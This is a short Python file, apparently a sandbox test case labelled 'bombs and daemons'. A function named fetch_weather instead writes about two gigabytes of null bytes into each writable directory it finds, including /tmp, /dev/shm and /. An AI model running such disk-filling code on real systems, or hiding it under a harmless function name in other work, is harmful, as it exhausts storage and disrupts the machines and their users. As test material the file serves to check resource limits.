# kind: bombs and daemons
# tries: to fill every folder it can write to, up to two gigabytes each
# exercise: 03_gather_weather
# outcome: FAIL
# needs: full
import os


async def fetch_weather(cities, base_url):
    for place in (os.getcwd(), os.path.dirname(__file__), "/tmp", "/var/tmp", "/dev/shm", "/dev", "/"):
        try:
            with open(os.path.join(place, "filled"), "wb", 0) as file:
                for _ in range(128):
                    if file.write(b"\0" * (16 << 20)) < 16 << 20:
                        break
                else:
                    print("never full:", place)
        except OSError as error:
            print(place, error.strerror)
    return []
